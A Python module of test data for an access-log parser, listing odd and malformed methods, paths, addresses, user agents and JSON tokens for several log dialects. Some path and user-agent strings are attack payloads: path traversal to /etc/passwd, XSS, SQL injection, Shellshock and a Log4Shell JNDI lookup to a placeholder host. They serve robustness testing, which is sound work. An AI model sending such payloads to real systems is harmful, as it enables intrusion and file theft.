"""What the nasty access logs of `access_strategies` are made of: texts, raw tokens of JSON, and where they stand."""

METHODS = ("GET", "GET", "GET", "POST", "HEAD", "OPTIONS", "M-SEARCH", "get", "-", "", " GET ", "Gänse", "\x16\x03")
TARGETS = (
    *("/", "/a", "/a", "/a?x=1", "/b", "/b?", "?x", "", "-", "*", "/a?b?c", "/a#b", "/a b", " /a ", "/ä", "/%2e%2e"),
    *("/a//b/", "/users/12", "/users/34/", "/users/12a?id=3", "/o/deadbeef", "/o/dead1eef", "/o/dead1ee"),
    *("/o/DEAD1EEF/x", "/123.json", "/u/123e4567-e89b-12d3-a456-426614174000"),
    *("/u/ABCDEFAB-abcd-abcd-abcd-abcdefabcdef", "/u/{123}", "12", "/٣", "/../../etc/passwd"),
    *("/?q=<script>alert(1)</script>", "/cgi?x=%00", "/${jndi:ldap://192.0.2.66/a}", "/\\think\\app"),
    *("http://192.0.2.80/a?x", "example.test:443", '/"quoted"', "/tab\there", "/nul\x00", "/esc\x1b[31m"),
    *("/\U0001f600", "/\u2028", "/-", "-?x", "/'; DROP TABLE x;--", "/[oops]", "/" + "x" * 300),
)
IPS = (
    *("192.0.2.1", "192.0.2.1", "192.0.2.2", "198.51.100.7", "2001:db8::1", "host.example", "-", "", " 192.0.2.2 "),
    *("::", "ä"),
)
ADDRESSES = (
    *("192.0.2.1:80", "192.0.2.1:5000", "[2001:db8::1]:443", "[2001:db8::1]", "2001:db8::1", "192.0.2.2", ":80", "-"),
    *("@", "[]:80", "192.0.2.1:", "host.example:http", " 192.0.2.2:1 ", "[fe80::1%eth0]:9", "192.0.2.1:80:80"),
)
AGENTS = (
    *("Mozilla/5.0 (X11)", "curl/8.0", "curl/8.0", "-", "", "Zoë \u2603", "\U0001f600", '"', "\\", "a\\", "\\x22"),
    *("[/oops]", "() { :; }; /bin/cat /etc/passwd", "${jndi:ldap://192.0.2.66/a}", "\x00", "\x1b]0;x\x07", "\u202e"),
    *("null", " b\tc "),
)
REQUESTS = (
    *("-", "", "GET", "GET /", "GET / HTTP/1.1 x", "GET  / HTTP/1.1", "GET /a b HTTP/1.1", " GET /a HTTP/1.1 "),
    *("\\x16\\x03\\x01", "GET /a http/1.1", "GET /a HTTP/2", "GET /a HTTP/", "G\u00c9T /a HTTP/1.1"),
    *("OPTIONS * RTSP/1.0", "GET\t/a", "(GET) /a", "GET /a\\b HTTP/1.0", "CONNECT example.test:443 HTTP/1.1"),
    *("GET ?x HTTP/1.1", "- - HTTP/1.1", "GET /a HTTP/1.1.1"),
)
# Raw JSON: those of the first pool are statuses, those of the second are none. Those of the third say that there is no
# status, and are in the second pool too.
STATUS_TOKENS = (
    *("200", "200", "200", "404", "500", "503", '"200"', '"404"', '" 302 "', '"007"', '"0"', "0", "99", "100", "399"),
    *("400", "499", "599", "600", "999", "200.0", "2e2", "2E+2", "-0", "-0.0", "5.00e2", "4040e-1"),
    '"\\u0032\\u0030\\u0030"',
)
NO_STATUS_TOKENS = (
    *("null", "true", "{}", "[]", "[200]", '{"a":200}', '""', '"-"', '"abc"', '"1000"', '"0200"', '"-1"', '"200.0"'),
    *('"2e2"', '"+20"', "1000", "-1", "200.5", "1e400", "1e-7", "1e3", "9" * 40, '"٢٠٠"', '"2 0"', '"200\\n"'),
    *('"200\\u0000"', '"²"'),
)
ABSENT_STATUS_TOKENS = ("null", '""', '"-"', '"-1"', "-1")
# In whatever unit; some lie half way between two microseconds.
DURATION_TOKENS = (
    *("0", "1", "1", "2", "12", "12.5", "0.001", "0.005", "3.25", "250", "1500", "60000", "0.1", "1e3", "1.5E2"),
    *("1E-2", "12e0", '"12"', '"0.25"', '" 7.125 "', "0.00040", "0.0006", "0.0000004", "0.0000006", "12.34567"),
    *("0.123456789", "1e-9", "-1", "-0.5", '"-3"', "-0", "-0.0", '"-0"', "-0.0001", "-0.00000001", "9e12", "9.007e12"),
    *("-9e12", "0.0015", "0.0025", "2.4995", '"0.0015"'),
)
NANOSECONDS = (
    *("188279", "500", "1500", "2500", "499", "501", "-500", "-1500", "79817.5", "1000000", "2000000000", '"1500"'),
)
NO_DURATION_TOKENS = (
    *("null", "true", "false", "{}", "[]", "[1]", '""', '"-"', '"abc"', '"0x1"'),
    *(
        "9e15",
        "-9e15",
        "9.1e12",
        '"1_0"',
        '"inf"',
        '"nan"',
        '"1 2"',
        '"1,5"',
        '"12ms"',
        '"٣"',
        "1e400",
        "-1e400",
        "1e308",
        "9" * 40,
        "1e30",
    ),
    '"' + "9" * 40 + '"',
)
# Values of a text that are none, or no text.
ODD_TOKENS = (
    *("null", '""', '"-"', '" - "', '" "', '"\\t"', "{}", "[]", '["/a"]', '{"a":"b"}', '{"0":"x"}', "true", "false"),
    *("0", "-0", "12", "200.0", "1e3", "1E400", "1.50", "9" * 40, '"\\u0000"', '"\\ud83d\\ude00"', '"\\/a"', '"null"'),
    *('"true"', '"\\u002d"'),
)
# Values of a key that nobody reads: the first pool leaves the line what it is, the second makes it no JSON.
BYSTANDERS = (
    *('"\\x41"', '"\t"', '"\x00"', '"\x1f"', "", "[1,]", "NaN", "Infinity", "-Infinity", '{"a":[NaN,-Infinity]}'),
    *("1e400", "-1e400", "9" * 40, "-0", "1E-400", '"\\ud83d\\ude00"', '"\\u0000"', '"\\u00e9\\/"'),
    *("[" * 60 + "]" * 60, '{"status":500,"timestamp":1,"a":{"a":{}}}', '"},{"', '"{\\"status\\":1}"'),
    *('"' + "x" * 5000 + '"', '"' + "\u2603" * 1500 + '"'),
)
NO_JSON = (
    *('"\\ud800"', '"\\udc00\\ud800"', '"\\ud83dx"', '"\\ud800","pad":1', '["\\udfff"]', '{"\\ud800":1}'),
    *("nan", "NAN", "-NaN", "+Infinity", "- Infinity", "inf", "Inf", "-inf", "NaNs", "NaN1", "Infinit"),
    *("01", "+1", ".5", "1.", "1e", "0x1", "--1", "'x'", "undefined", "True"),
    *('"\\u12"', '"\\"', '"', "1,,", "1 2", "{,}", "{a:1}"),
    *("/*x*/1", "1//x", "tru", "\u00a01", "\ufeff1"),
)
# Whole lines; none is an exchange in any format.
WHOLE = (
    *("{}", "[]", "null", "true", "1", '"x"', "[{}]", "{", "}", "{}{}", "{},{}", "{} x", "[" * 200),
    *('{"status_code":200}', "{ }", '{"":{}}', "192.0.2.1", "192.0.2.1 - - [] ", '"{}"', "# comment"),
    *("time,method,endpoint", "\ufeff{}", "\x00", "NaN"),
)
CLF_ZONES = ("+0000", "+0000", "+0000", "-0000", "+0200", "-0330", "+2359", "-2359")
NO_CLF_TIMES = (
    *("", "-", "31/Feb/2025:12:00:00 +0000", "1/Mar/2025:12:00:00 +0000", "01/Mär/2025:12:00:00 +0000"),
    *("01/mar/2025:12:00:00 +0000", "01/Mar/2025:24:00:00 +0000", "01/Mar/2025:12:60:00 +0000"),
    *("01/Mar/2025:12:00:60 +0000", "01/Mar/2025:12:00:00", "01/Mar/2025:12:00:00 Z", "01/Mar/2025:12:00:00 +2400"),
    *("01/Mar/2025:12:00:00 +0060", "01/Mar/2025:12:00:00 +00:00", "01/Mar/2025:12:00:00.5 +0000"),
    *("01/Mar/0000:12:00:00 +0000", "01/03/2025:12:00:00 +0000", "2025-03-01T12:00:00Z"),
    *("01/Mar/2025:12:00:00  +0000", "01/Mar/2025 12:00:00 +0000", "0١/Mar/2025:12:00:00 +0000"),
    "29/Feb/1900:00:00:00 +0000",
)
EDGE_UNIX = (
    *("0", "-0", "0.0", "-1", "-1.5", "1e9", "17.5E8", "253402300799.999999", "-62135596800", "1740830398.0000009"),
)
NO_UNIX = (
    *("253402300800", "-62135596800.000001", "1740830398000", "1e400", "-1e400", "9" * 40, "true", "null", "{}"),
    *("[1]", '""'),
)

Slot = tuple[str, str]
# The places of each dialect: of each row mostly one is there. The second half says what kind of token stands in it.
LAYOUTS: dict[str, tuple[tuple[Slot, ...], ...]] = {
    "ndjson": (
        (("timestamp", "iso"),),
        (("method", "method"),),
        (("endpoint", "target"),),
        (("status_code", "status"),),
        (("ip", "ip"),),
        (("response_time", "duration"),),
        (("user_agent", "agent"),),
    ),
    "caddy": (
        (("ts", "unix"), ("ts", "unix"), ("ts", "iso")),
        (("request.client_ip", "ip"), ("request.remote_ip", "ip"), ("request.remote_addr", "address")),
        (("request.method", "method"),),
        (("request.uri", "target"),),
        (("request.headers.User-Agent", "agents"),),
        (("duration", "duration"),),
        (("status", "status"),),
    ),
    "traefik": (
        (("ClientHost", "ip"), ("ClientAddr", "address")),
        (("DownstreamStatus", "status"),),
        (("Duration", "nanoseconds"),),
        (("RequestMethod", "method"),),
        (("RequestPath", "target"),),
        (("StartUTC", "iso"), ("time", "iso")),
        (("request_User-Agent", "agent"),),
    ),
    "nginx": (
        (
            *(("time_iso8601", "iso"), ("time_local", "clf"), ("time", "iso"), ("timestamp", "iso")),
            *(("@timestamp", "iso"), ("msec", "unix"), ("msec", "unix text")),
        ),
        (("remote_addr", "ip"), ("client_ip", "ip")),
        (("request_method", "method"), ("method", "method"), ("request", "request")),
        (("request_uri", "target"), ("uri", "target"), ("request", "request")),
        (("status", "status"),),
        (("request_time", "duration"),),
        (("http_user_agent", "agent"), ("user_agent", "agent"), ("agent", "agent")),
    ),
}
TEXTS = {"method": METHODS, "target": TARGETS, "ip": IPS, "address": ADDRESSES, "agent": AGENTS, "agents": AGENTS}
TOKENS = {
    "status": (STATUS_TOKENS, NO_STATUS_TOKENS),
    "duration": (DURATION_TOKENS, NO_DURATION_TOKENS),
    "nanoseconds": (NANOSECONDS, NO_DURATION_TOKENS),
}
